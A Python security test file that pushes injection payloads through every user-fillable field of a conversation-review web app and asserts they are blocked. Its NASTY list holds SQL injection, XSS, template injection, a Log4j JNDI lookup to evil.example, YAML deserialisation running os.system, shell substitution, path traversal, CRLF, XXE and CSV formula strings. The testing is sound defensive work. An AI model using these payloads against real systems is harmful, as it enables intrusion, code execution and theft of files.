"""Injection through every field that anybody can fill in."""

from __future__ import annotations

from uuid import uuid4

from conversations.people import Role
from tests.attacks.table import attack
from tests.attacks.world import World
from tests.conversations.talks import a_talk

NASTY = (
    "'; DROP TABLE conversations; --",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/x}",
    "!!python/object/apply:os.system ['id']",
    "$(id) `id` ; id | id",
    "../../../../etc/passwd",
    "line\r\nSet-Cookie: a=b\r\n\r\nbody",
    "null\x00byte",
    "\u202etxet dnuora",
    "%s%s%n %(name)s {0.__class__}",
    "]]></w:t><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "=cmd|'/c calc'!A1",
    '/stop{"situation": "x"}',
    "\ud83d",
    "x" * 7_999,
)
# What a browser would run, or take for a part of the page.
LIVE = ("<script>alert", "<img src=x")


def harmless(page: str) -> bool:
    return not any(live in page for live in LIVE) and "49 " not in page and "root:" not in page


@attack("injection through a message", stopped_by="gateway.inbound.clean")
async def message(world: World) -> None:
    leader = await world.leader()
    for text in NASTY:
        response = await leader.say(text)
        # Half of a character cannot be sent as JSON; the rest is text like any other.
        assert response.status == (400 if "\ud83d" in text else 200), text
        if response.status == 200:
            assert world.rasa.taken[-1].keys() == {"sender", "key", "text"}
            assert not {"\x00", "\u202e", "\r"} & set(world.rasa.texts[-1])
    assert harmless(await (await leader.get("/plain")).text())
    for path in ("/api/record.docx", "/api/record.md", "/api/record.ics", "/api/record.json", "/api/turns"):
        assert (await leader.get(path)).status == 200


@attack("an intent named in a message, as Rasa's own channels would take it", stopped_by="gateway.rasa.Asked.body")
async def intent(world: World) -> None:
    leader = await world.leader()
    await leader.say("/stop")
    assert world.rasa.taken[-1]["text"] == "/stop"
    assert "choice" not in world.rasa.taken[-1]
    body = {"key": str(uuid4()), "choice": "stop"}
    assert (await leader.ask("POST", "/api/turns", json=body)).status == 400


@attack("injection through the keys and numbers of the web API", stopped_by="gateway.channels.bodies.turn_of")
async def keys(world: World) -> None:
    leader = await world.leader()
    for text in NASTY:
        for body in ({"key": text, "text": "x"}, {"key": str(uuid4()), "choice": text}, {text: "x"}, text, [text]):
            assert (await leader.ask("POST", "/api/turns", json=body)).status == 400
        said = text.encode("utf-8", "replace").decode()
        assert (await leader.get("/api/turns", params={"after": said})).status == 400
        assert (await leader.get("/api/record.json", params={"topic": said})).status == 400
        assert (await leader.ask("POST", "/api/sharing", json={"shared": text})).status == 400
    for after in ("-1", "1e3", "٣", "1" * 30, " 1", "0x1"):
        assert (await leader.get("/api/turns", params={"after": after})).status == 400


@attack("a body that is deep, or a number that is long", stopped_by="gateway.channels.bodies.turn_of")
async def deep(world: World) -> None:
    leader = await world.leader()
    for body in ("[" * 60_000, '{"key":' * 15_000, "1" * 100_000, '{"text": NaN}', "{'key': 1}", "\xff"):
        headers = {"Content-Type": "application/json"}
        assert (await leader.ask("POST", "/api/turns", data=body.encode("latin-1"), headers=headers)).status == 400


@attack("injection through the plain pages", stopped_by="gateway.pages.template")
async def plain(world: World) -> None:
    leader = await world.leader()
    await leader.get("/plain")
    for text in NASTY:
        said = text.encode("utf-8", "replace").decode()
        for fields in ({"text": said, "key": str(uuid4())}, {"text": "x", "key": said}, {"choice": said, "key": said}):
            response = await leader.send("/plain/turns", **fields)
            assert response.status in (303, 400)
            assert harmless(await response.text())
            assert "a=b" not in str(response.headers)


@attack("injection through what coaches write and search for", stopped_by="review.pages.set_up")
async def notes(world: World) -> None:
    of, coach = await a_talk(world.database), await world.coach()
    here = f"/conversations/{of}"
    for text in NASTY:
        said = text.encode("utf-8", "replace").decode()
        for path, fields in (
            (f"{here}/comments", {"turn": "0", "text": said}),
            (f"{here}/comments", {"turn": said, "text": "x"}),
            (f"{here}/tags", {"turn": "0", "name": said}),
            (f"{here}/progress", {"version": said, "status": said, "assignee": said, "second": said}),
            (f"{here}/assessment", {"score-reflection": said, "note": said}),
            ("/views", {"name": said, "q": said, "tag": said}),
        ):
            response = await coach.send(path, **fields)
            assert response.status in (303, 400, 403), (path, fields)
            assert harmless(await response.text())
        for name in ("q", "tag", "channel", "theme", "since", "status", "page", "assignee", "rating_below"):
            response = await coach.get("/", params={name: said})
            assert response.status in (200, 400)
            assert harmless(await response.text())
    assert harmless(await (await coach.get(here)).text())


@attack("injection through the names of accounts", stopped_by="review.pages.set_up")
async def names(world: World) -> None:
    administrator, url = await world.coach(Role.ADMINISTRATOR), await world.another_review()
    for text in NASTY[:-1]:
        said = text.encode("utf-8", "replace").decode()
        for fields in ({"name": said, "role": "coach"}, {"name": "x", "role": said}):
            assert (await administrator.send("/accounts", **fields)).status in (200, 303, 400)
        assert (await administrator.get("/log", params={"action": said})).status == 400
        assert (await administrator.get("/log", params={"before": said})).status == 400
        response = await world.anybody(url).send("/sign-in", name=said, password=said)
        assert response.status == 401
        assert harmless(await response.text())
    assert harmless(await (await administrator.get("/accounts")).text())


@attack("a formula in an export, for a spreadsheet to run", stopped_by="review.exporting.FORMULAS")
async def formula(world: World) -> None:
    for first in "=+-@\t\r":
        await a_talk(world.database, f"{first}cmd|'/c calc'!A1")
    lead = await world.coach(Role.LEAD)
    await lead.get("/")
    text = await (await lead.get("/export.csv")).text()
    assert "'=cmd|" in text
    for first in "=+-@\t":
        assert f",{first}cmd" not in text
        assert f'"{first}cmd' not in text


@attack("injection through a tampered or made-up place in the list", stopped_by="review.filters.place_in")
async def place(world: World) -> None:
    coach = await world.coach()
    for made_up in ("AAAA", "W10=", "bnVsbA==", "eyJ4IjogMX0=", "WyInIiwgIiciLCAwLCAwXQ==", "💥", "=" * 50, "x" * 9):
        response = await coach.get("/", params={"page": made_up})
        assert response.status == 400
